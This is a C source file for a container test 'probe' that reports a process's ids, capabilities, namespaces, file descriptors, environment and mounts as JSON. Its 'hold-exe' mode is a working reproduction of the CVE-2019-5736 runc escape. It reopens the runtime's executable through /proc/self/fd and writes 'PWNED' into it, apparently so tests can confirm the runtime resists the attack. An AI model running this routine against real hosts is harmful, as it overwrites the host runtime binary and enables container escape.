/* probe: run as a container's (or guest's) process; prints what it sees as one JSON object so
 * tests compare facts instead of scraping tool output (STYLE.md section 11).
 * Static, no dependencies beyond libc. Usage:
 *   probe [facts]          everything below as one object (ids, caps, limits, maps, fds, env, ...)
 *   probe exit N | sleep S
 *   probe syscall NAME     {"syscall","ret","errno"} for getcwd, mkdir, getpid, uname, sethostname
 *   probe read PATH...     {"PATH":{"errno":E,"open_errno":O,"data":"first 4 KiB"}} (errno 0: readable;
 *                          open_errno 0: opened, whatever read then said)
 *   probe write PATH...    {"PATH":{"errno":E}}: open O_WRONLY|O_CREAT and write one byte
 *   probe stat PATH...     {"PATH":{"errno":E,"type":"c","mode":420,"uid":U,"gid":G,"major":M,"minor":N}}
 *   probe signals          prints {"ready":true}, waits; on a catchable signal prints {"signal":N},
 *                          exits with N (a pid-namespace init only gets signals it handles)
 *   probe raise N          kills itself with signal N (SIG_DFL)
 *   probe hold-exe COMM FIFO S   the CVE-2019-5736 attack: waits for a process named COMM, opens its
 *                          /proc/PID/exe read-only, releases it by opening FIFO (made here) for
 *                          writing, then for up to S seconds tries to reopen the exe for writing
 *                          through /proc/self/fd and to write into it;
 *                          {"pid","open_errno","target","write_open_errno","write_errno","written"} */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <unistd.h>

static void json_str(const char *k, const char *v, int comma) {
  printf("\"%s\":\"", k);
  for (const char *p = v; p && *p; p++) {
    if (*p == '"' || *p == '\\') putchar('\\');
    if (*p == '\n') { fputs("\\n", stdout); continue; }
    if ((unsigned char)*p < 0x20) continue;
    /* Bytes past ASCII (binary data read from a device) as Latin-1 escapes: always valid JSON. */
    if ((unsigned char)*p >= 0x80) { printf("\\u%04x", (unsigned char)*p); continue; }
    putchar(*p);
  }
  printf("\"%s", comma ? "," : "");
}

static void file_field(const char *k, const char *path, int comma) {
  char buf[16384];
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    char err[64];
    snprintf(err, sizeof err, "error:%s", strerror(errno));
    json_str(k, err, comma);
    return;
  }
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  buf[n < 0 ? 0 : n] = 0;
  json_str(k, buf, comma);
}

static void status_field(const char *key, const char *name, int comma) {
  char buf[16384];
  int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
  if (fd >= 0) close(fd);
  buf[n < 0 ? 0 : n] = 0;
  char *line = strstr(buf, name);
  char val[128] = "";
  if (line) {
    line += strlen(name);
    while (*line == ':' || *line == '\t' || *line == ' ') line++;
    size_t i = 0;
    while (line[i] && line[i] != '\n' && i < sizeof val - 1) { val[i] = line[i]; i++; }
    val[i] = 0;
  }
  json_str(key, val, comma);
}

static void fds_field(void) {
  printf("\"fds\":{");
  int first = 1;
  for (int fd = 0; fd < 1024; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    char link[64], target[4096];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    char key[16];
    snprintf(key, sizeof key, "%d", fd);
    if (!first) putchar(',');
    first = 0;
    json_str(key, n < 0 ? "?" : target, 0);
  }
  printf("},");
}

static void ns_field(void) {
  static const char *const kinds[] = {"cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"};
  printf("\"ns\":{");
  for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
    char link[64], target[128];
    snprintf(link, sizeof link, "/proc/self/ns/%s", kinds[i]);
    ssize_t n = readlink(link, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    json_str(kinds[i], target, i + 1 < sizeof kinds / sizeof kinds[0]);
  }
  printf("},");
}

static void env_field(void) {
  extern char **environ;
  printf("\"env\":[");
  for (char **e = environ; *e; e++) {
    putchar('"');
    for (const char *p = *e; *p; p++) {
      if (*p == '"' || *p == '\\') putchar('\\');
      if ((unsigned char)*p >= 0x20) putchar(*p);
    }
    printf("\"%s", e[1] ? "," : "");
  }
  printf("],");
}

static void read_paths(int argc, char **argv) {
  printf("{");
  for (int i = 2; i < argc; i++) {
    printf("\"%s\":{", argv[i]);
    int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
    char buf[4096];
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    int err = fd < 0 || n < 0 ? errno : 0;
    int open_err = fd < 0 ? err : 0;
    if (fd >= 0) close(fd);
    buf[n < 0 ? 0 : n] = 0;
    printf("\"errno\":%d,\"open_errno\":%d,", err, open_err);
    json_str("data", buf, 0);
    printf("}%s", i + 1 < argc ? "," : "");
  }
  printf("}\n");
}

static void write_paths(int argc, char **argv) {
  printf("{");
  for (int i = 2; i < argc; i++) {
    int fd = open(argv[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    int err = fd < 0 ? errno : 0;
    if (fd >= 0 && write(fd, "x", 1) != 1) err = errno;
    if (fd >= 0) close(fd);
    printf("\"%s\":{\"errno\":%d}%s", argv[i], err, i + 1 < argc ? "," : "");
  }
  printf("}\n");
}

static void stat_paths(int argc, char **argv) {
  printf("{");
  for (int i = 2; i < argc; i++) {
    struct stat st;
    printf("\"%s\":", argv[i]);
    if (lstat(argv[i], &st) != 0) {
      printf("{\"errno\":%d}", errno);
    } else {
      char t = S_ISCHR(st.st_mode) ? 'c' : S_ISBLK(st.st_mode) ? 'b' : S_ISDIR(st.st_mode) ? 'd'
             : S_ISLNK(st.st_mode) ? 'l' : S_ISFIFO(st.st_mode) ? 'p' : 'f';
      printf("{\"errno\":0,\"type\":\"%c\",\"mode\":%u,\"uid\":%u,\"gid\":%u,\"major\":%u,\"minor\":%u}", t,
             (unsigned)(st.st_mode & 07777), st.st_uid, st.st_gid, major(st.st_rdev), minor(st.st_rdev));
    }
    printf("%s", i + 1 < argc ? "," : "");
  }
  printf("}\n");
}

static volatile sig_atomic_t got_signal;
static void on_signal(int sig) { got_signal = sig; }

static int wait_signals(void) {
  for (int sig = 1; sig < 32; sig++) {
    if (sig == SIGKILL || sig == SIGSTOP || sig == SIGCHLD) continue;
    signal(sig, on_signal);
  }
  printf("{\"ready\":true}\n");
  fflush(stdout);
  while (!got_signal) pause();
  printf("{\"signal\":%d}\n", (int)got_signal);
  fflush(stdout);
  return got_signal;
}

static int find_comm(const char *name) {
  DIR *d = opendir("/proc");
  if (!d) return -1;
  struct dirent *e;
  int found = -1;
  while (found < 0 && (e = readdir(d)) != NULL) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char path[64], comm[64] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    comm[n < 0 ? 0 : n] = 0;
    if (n > 0 && comm[n - 1] == '\n') comm[n - 1] = 0;
    if (strcmp(comm, name) == 0) found = pid;
  }
  closedir(d);
  return found;
}

static int hold_exe(const char *comm, const char *fifo, int seconds) {
  mkfifo(fifo, 0600);
  int pid = -1;
  for (int i = 0; i < seconds * 100 && pid < 0; i++) {
    pid = find_comm(comm);
    if (pid < 0) usleep(10000);
  }
  char path[64], link[64], target[4096] = "";
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = pid < 0 ? -1 : open(path, O_RDONLY);
  int open_errno = pid < 0 ? ESRCH : fd < 0 ? errno : 0;
  /* Let the process go (it waits for a writer on the fifo), then wait for every runtime
   * process to be gone: the write reopen fails with ETXTBSY while one executes the file. */
  for (int i = 0; fd >= 0 && i < seconds * 100; i++) {
    int w = open(fifo, O_WRONLY | O_NONBLOCK);
    if (w >= 0) {
      close(w);
      break;
    }
    usleep(10000);
  }
  int write_open_errno = -1, write_errno = -1, written = 0;
  if (fd >= 0) {
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    for (int i = 0; i < seconds * 20; i++) {
      int wfd = open(link, O_WRONLY);
      write_open_errno = wfd < 0 ? errno : 0;
      if (wfd >= 0) {
        /* Past the ELF header: enough to prove the point. */
        ssize_t k = pwrite(wfd, "PWNED", 5, 64);
        write_errno = k == 5 ? 0 : errno;
        written = k == 5;
        close(wfd);
        break;
      }
      usleep(50000);
    }
  }
  printf("{\"pid\":%d,\"open_errno\":%d,", pid, open_errno);
  json_str("target", target, 1);
  printf("\"write_open_errno\":%d,\"write_errno\":%d,\"written\":%s}\n", write_open_errno, write_errno,
         written ? "true" : "false");
  return 0;
}

static int count_fds(void) {
  int n = 0;
  for (int fd = 0; fd < 1024; fd++)
    if (fcntl(fd, F_GETFD) >= 0) n++;
  return n;
}

/* Looks NAME up in /etc/hosts the way the "files" NSS module does (address, then names and
 * aliases) and prints the address. Debian's busybox-static cannot resolve names (its static
 * glibc getaddrinfo crashes without the NSS modules), so tests resolve with this. */
static int resolve_host(const char* name) {
  FILE* f = fopen("/etc/hosts", "r");
  if (!f) return 2;
  char line[1024];
  while (fgets(line, sizeof line, f)) {
    char* hash = strchr(line, '#');
    if (hash) *hash = '\0';
    char* save = NULL;
    char* addr = strtok_r(line, " \t\n", &save);
    if (!addr) continue;
    for (char* n = strtok_r(NULL, " \t\n", &save); n; n = strtok_r(NULL, " \t\n", &save)) {
      if (strcmp(n, name) == 0) {
        printf("%s\n", addr);
        fclose(f);
        return 0;
      }
    }
  }
  fclose(f);
  return 1;
}

int main(int argc, char **argv) {
  if (argc >= 3 && strcmp(argv[1], "exit") == 0) return atoi(argv[2]);
  if (argc >= 3 && strcmp(argv[1], "resolve") == 0) return resolve_host(argv[2]);
  if (argc >= 3 && strcmp(argv[1], "sleep") == 0) { sleep((unsigned)atoi(argv[2])); return 0; }
  if (argc >= 3 && strcmp(argv[1], "read") == 0) { read_paths(argc, argv); return 0; }
  if (argc >= 3 && strcmp(argv[1], "write") == 0) { write_paths(argc, argv); return 0; }
  if (argc >= 3 && strcmp(argv[1], "stat") == 0) { stat_paths(argc, argv); return 0; }
  if (argc >= 2 && strcmp(argv[1], "signals") == 0) return wait_signals();
  if (argc >= 5 && strcmp(argv[1], "hold-exe") == 0) return hold_exe(argv[2], argv[3], atoi(argv[4]));
  if (argc >= 3 && strcmp(argv[1], "raise") == 0) {
    fflush(stdout);
    signal(atoi(argv[2]), SIG_DFL);
    kill(getpid(), atoi(argv[2]));
    sleep(5);
    return 99;
  }
  if (argc >= 3 && strcmp(argv[1], "syscall") == 0) {
    long r = -1;
    if (strcmp(argv[2], "getcwd") == 0) { char b[64]; r = syscall(SYS_getcwd, b, sizeof b); }
    else if (strcmp(argv[2], "mkdir") == 0) r = syscall(SYS_mkdir, "/tmp/probe-mkdir", 0755);
    else if (strcmp(argv[2], "getpid") == 0) r = syscall(SYS_getpid);
    else if (strcmp(argv[2], "uname") == 0) { struct utsname u; r = syscall(SYS_uname, &u); }
    else if (strcmp(argv[2], "sethostname") == 0) r = syscall(SYS_sethostname, "probe", 5);
    else { errno = ENOSYS; r = -2; }
    printf("{\"syscall\":\"%s\",\"ret\":%ld,\"errno\":%d}\n", argv[2], r, r < 0 ? errno : 0);
    return 0;
  }
  struct utsname u;
  uname(&u);
  char dom[256] = "";
  getdomainname(dom, sizeof dom);
  char cwd[4096] = "";
  if (!getcwd(cwd, sizeof cwd)) strcpy(cwd, "?");
  struct rlimit nofile, nproc;
  getrlimit(RLIMIT_NOFILE, &nofile);
  getrlimit(RLIMIT_NPROC, &nproc);
  gid_t groups[64];
  int ng = getgroups(64, groups);
  printf("{");
  json_str("hostname", u.nodename, 1);
  json_str("domainname", dom, 1);
  json_str("cwd", cwd, 1);
  printf("\"pid\":%d,\"ppid\":%d,\"uid\":%u,\"gid\":%u,\"euid\":%u,", getpid(), getppid(), getuid(),
         getgid(), geteuid());
  printf("\"groups\":[");
  for (int i = 0; i < ng; i++) printf("%s%u", i ? "," : "", groups[i]);
  printf("],");
  mode_t um = umask(0);
  umask(um);
  printf("\"umask\":%u,", (unsigned)um);
  printf("\"nofile_soft\":%llu,\"nofile_hard\":%llu,\"nproc_soft\":%llu,\"nproc_hard\":%llu,",
         (unsigned long long)nofile.rlim_cur, (unsigned long long)nofile.rlim_max,
         (unsigned long long)nproc.rlim_cur, (unsigned long long)nproc.rlim_max);
  printf("\"open_fds\":%d,", count_fds());
  fds_field();
  ns_field();
  env_field();
  json_str("tty", isatty(0) && ttyname(0) ? ttyname(0) : "", 1);
  status_field("cap_eff", "CapEff", 1);
  status_field("cap_prm", "CapPrm", 1);
  status_field("cap_bnd", "CapBnd", 1);
  status_field("cap_inh", "CapInh", 1);
  status_field("cap_amb", "CapAmb", 1);
  status_field("no_new_privs", "NoNewPrivs", 1);
  status_field("seccomp", "Seccomp", 1);
  file_field("uid_map", "/proc/self/uid_map", 1);
  file_field("gid_map", "/proc/self/gid_map", 1);
  file_field("cgroup", "/proc/self/cgroup", 1);
  file_field("oom_score_adj", "/proc/self/oom_score_adj", 1);
  file_field("mountinfo", "/proc/self/mountinfo", 1);
  const char *env = getenv("PATH");
  json_str("env_path", env ? env : "", 0);
  printf("}\n");
  return 0;
}
